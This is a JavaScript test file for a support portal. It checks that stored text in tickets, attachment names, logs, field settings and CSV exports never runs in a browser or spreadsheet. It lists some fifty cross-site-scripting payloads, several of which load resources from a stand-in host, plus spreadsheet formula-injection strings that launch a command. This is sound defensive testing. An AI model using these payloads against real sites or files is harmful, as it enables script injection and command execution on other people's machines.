// What somebody stores is text, wherever it shows up: in a ticket's subject and text, in the name and
// the content of a file, in a log record, in a row of field settings and in the files that are taken
// elsewhere. None of some fifty ways to make a browser do something makes it do anything.

import assert from 'node:assert/strict';
import { test } from 'node:test';

import { connector, signUp } from './support/person.js';
import { usePortal } from './support/portal.js';
import { joinSupport, logInAsStaff } from './support/staff.js';
import { logIn } from './support/steps.js';

const portal = usePortal({ env: { PORTAL_LIMIT_TICKET: '1000/h', PORTAL_LIMIT_TICKET_MESSAGE: '1000/h' } });

/** Each sets `window.stored`, or calls a place that nobody else would. */
const RUN = 'window.stored=1';
const PAYLOADS = [
  `<script>${RUN}</script>`,
  `<SCRIPT SRC=//stored.example/x.js></SCRIPT>`,
  `</title><script>${RUN}</script>`,
  `</textarea><script>${RUN}</script>`,
  `"><script>${RUN}</script>`,
  `'><img src=x onerror=${RUN}>`,
  `<img src=x onerror="${RUN}">`,
  `<img src="//stored.example/pixel.png">`,
  `<img/src=x/onerror=${RUN}>`,
  `<svg onload=${RUN}>`,
  `<svg><script>${RUN}</script></svg>`,
  `<svg><animate onbegin=${RUN} attributeName=x dur=1s>`,
  `<body onload=${RUN}>`,
  `<iframe src="javascript:parent.${RUN}"></iframe>`,
  `<iframe srcdoc="<script>parent.${RUN}</script>"></iframe>`,
  `<iframe src="//stored.example/"></iframe>`,
  `<object data="javascript:${RUN}"></object>`,
  `<embed src="javascript:${RUN}">`,
  `<a href="javascript:${RUN}">click</a>`,
  `[click](javascript:${RUN})`,
  `![x](x"onerror="${RUN})`,
  `javascript:${RUN}//`,
  `data:text/html,<script>${RUN}</script>`,
  `<details open ontoggle=${RUN}>`,
  `<input autofocus onfocus=${RUN}>`,
  `<select autofocus onfocus=${RUN}>`,
  `<video src=x onerror=${RUN}></video>`,
  `<audio src=x onerror=${RUN}></audio>`,
  `<marquee onstart=${RUN}>x</marquee>`,
  `<form action="javascript:${RUN}"><button>x</button></form>`,
  `<math><mtext></mtext><mglyph><style><img src=x onerror=${RUN}>`,
  `<style>@import "//stored.example/x.css";</style>`,
  `<link rel=stylesheet href="//stored.example/x.css">`,
  `<meta http-equiv=refresh content="0;url=//stored.example/">`,
  `<base href="//stored.example/">`,
  `<template><script>${RUN}</script></template>`,
  `<noscript><p title="</noscript><img src=x onerror=${RUN}>">`,
  `<div style="background:url(//stored.example/b.png)">`,
  `<p onclick=${RUN}>click</p>`,
  `&lt;script&gt;${RUN}&lt;/script&gt;`,
  `&#60;script&#62;${RUN}&#60;/script&#62;`,
  `\\u003cscript\\u003e${RUN}\\u003c/script\\u003e`,
  `%3Cscript%3E${RUN}%3C/script%3E`,
  '${window.stored=1}',
  '{{constructor.constructor("window.stored=1")()}}',
  `<!--><script>${RUN}</script>`,
  `]]><script>${RUN}</script>`,
  `<xss id=x tabindex=1 onfocus=${RUN}></xss>`,
  `=HYPERLINK("//stored.example/","click")`,
  `=cmd|' /C calc'!A0`,
  `+1+cmd|' /C calc'!A0`,
  `-2+3+cmd|' /C calc'!A0`,
  `@SUM(1+9)*cmd|' /C calc'!A0`,
];

/** A name that a file can have: without folders. */
const fileName = (payload) => payload.replaceAll(/[/\\]/g, '∕');

/** Everything that the page did because of what was stored. */
async function watched(page) {
  const calls = [];
  page.on('dialog', (dialog) => {
    calls.push(`dialog: ${dialog.message()}`);
    return dialog.dismiss();
  });
  page.context().on('request', (request) => {
    if (request.url().includes('stored.example')) calls.push(request.url());
  });
  return async () => {
    // Events of elements that would be there have come by now.
    await page.evaluate(() => new Promise((done) => requestAnimationFrame(() => setTimeout(done, 50))));
    assert.equal(await page.evaluate(() => window.stored), undefined, page.url());
    assert.deepEqual(calls, [], page.url());
  };
}

test(`${PAYLOADS.length} stored scripts do nothing`, async (t) => {
  assert.ok(PAYLOADS.length >= 40);
  const page = await portal.page(t);
  const ada = await signUp(portal.server);
  await ada.api.change('/settings/advanced', { remoteLoggingEnabled: true });
  const cm = connector(portal.server, await ada.api.key(), 'xp_xm/3.3', 'cm1');
  await cm.logs(PAYLOADS.map((payload) => ({ level: 'error', message: payload, logger: payload, properties: { value: payload } })));
  const rows = PAYLOADS.map((payload, n) => ({ field: `${n} ${payload}`.slice(0, 90), defaultSearchTerm: payload.slice(0, 100) }));
  for (const row of rows) await ada.api.post('/settings/fields', row);
  const grace = await joinSupport(portal.server, '<img src=x onerror=window.stored=1>');
  const tickets = [];
  for (const payload of PAYLOADS) {
    const body = { subject: payload, category: 'bug', description: payload, connector: 'xp_xm', includeDiagnostics: true };
    const ticket = await ada.api.post('/tickets', body);
    const query = new URLSearchParams({ name: fileName(payload), message: ticket.messages[0].id });
    const file = await fetch(`${portal.server.url}/api/v1/tickets/${ticket.number}/attachments?${query}`, {
      method: 'POST',
      headers: { authorization: `Bearer ${ada.accessToken}`, 'content-type': 'application/octet-stream' },
      body: payload,
    });
    assert.equal(file.status, 201, await file.text());
    await grace.api.post(`/staff/tickets/${ticket.number}/messages`, { text: payload, isInternal: true });
    tickets.push(ticket.number);
  }

  const quiet = await watched(page);
  await logIn(page, ada, '/support');
  await page.getByRole('list', { name: 'Tickets' }).getByText(PAYLOADS.at(-1), { exact: true }).waitFor();
  await quiet();
  for (const [n, number] of tickets.entries()) {
    await page.goto(`/support/ticket?number=${number}`);
    await page.getByRole('heading', { name: PAYLOADS[n], level: 1, exact: true }).waitFor();
    // Its ending is one of what is in it, which comes after the name where that had another.
    await page.getByRole('button', { name: `Download ${fileName(PAYLOADS[n])}` }).waitFor();
    await quiet();
  }
  await page.goto('/logs');
  const records = page.getByRole('list', { name: 'Records' }).getByRole('listitem');
  await records.nth(PAYLOADS.length - 1).waitFor();
  for (const record of await records.all()) await record.locator('summary').click();
  await quiet();
  for (const path of ['/integration#fields', '/integration/history', '/activity', '/']) {
    await page.goto(path);
    await page.getByRole('heading', { level: 1 }).waitFor();
    await quiet();
  }
  // The newest article or ticket may be opened from a mail: the mailbox shows them all.
  await page.goto('/dev/mailbox');
  await page.getByText(PAYLOADS.at(-1)).first().waitFor();
  await quiet();
});

test('nor in front of support', async (t) => {
  // The password alone opens nothing to them.
  const page = await portal.page(t, { expected: [/status of 401 .*\/auth\/login/] });
  const grace = await joinSupport(portal.server, 'Grace Hopper');
  const quiet = await watched(page);
  await logInAsStaff(page, grace, '/desk?sort=changed');
  await page.getByRole('row').nth(PAYLOADS.length - 1).waitFor();
  await quiet();
  const { items } = await grace.api.get('/staff/tickets?limit=200');
  assert.ok(items.length >= PAYLOADS.length);
  // Each a page of its own, all that is in it unfolded.
  for (const ticket of items) {
    await page.goto(`/desk/ticket?number=${ticket.number}`);
    await page.getByRole('heading', { name: ticket.subject, level: 1, exact: true }).waitFor();
    await quiet();
  }
  await page.locator('details').evaluateAll((all) => all.forEach((one) => { one.open = true; }));
  await quiet();
});

test('files that are taken elsewhere have no cell that a spreadsheet would run', async () => {
  const ada = await signUp(portal.server);
  const cm = connector(portal.server, await ada.api.key(), 'xp_xm/3.3', 'cm1');
  for (const [n, payload] of PAYLOADS.entries()) {
    await ada.api.post('/settings/fields', { field: `f${n}`, defaultSearchTerm: payload.slice(0, 100) });
  }
  await ada.api.patch('/account', { name: '=cmd' });
  await cm.usage(
    PAYLOADS.map((_, n) => `https://www.acme.example/${n}`),
    PAYLOADS.map((payload, n) => ({ assetId: `0db1e000-000${n % 10}-4a00-8000-a55e70000001`, uri: `https://www.acme.example/${n}`, field: payload.slice(0, 100), itemPath: payload })),
  );
  for (const path of ['/settings/fields/export?format=csv', '/audit-events/export', '/asset-usage/export']) {
    const headers = { authorization: `Bearer ${ada.accessToken}`, accept: 'text/csv' };
    const answer = await fetch(`${portal.server.url}/api/v1${path}`, { headers });
    const text = await answer.text();
    assert.equal(answer.status, 200, `${path}: ${text}`);
    assert.match(answer.headers.get('content-type'), /^text\/csv/, path);
    assert.match(answer.headers.get('content-disposition'), /^attachment/, path);
    const risky = cells(text).filter((cell) => /^[=+\-@\t\r]/.test(cell));
    assert.deepEqual(risky, [], path);
  }
});

/** The cells of a CSV, without its quotes. */
function cells(text) {
  const found = [];
  const pattern = /("(?:[^"]|"")*"|[^,\r\n]*)(?:,|\r?\n|$)/gy;
  let match;
  while (pattern.lastIndex < text.length && (match = pattern.exec(text))) {
    found.push(match[1].startsWith('"') ? match[1].slice(1, -1).replaceAll('""', '"') : match[1]);
  }
  return found;
}
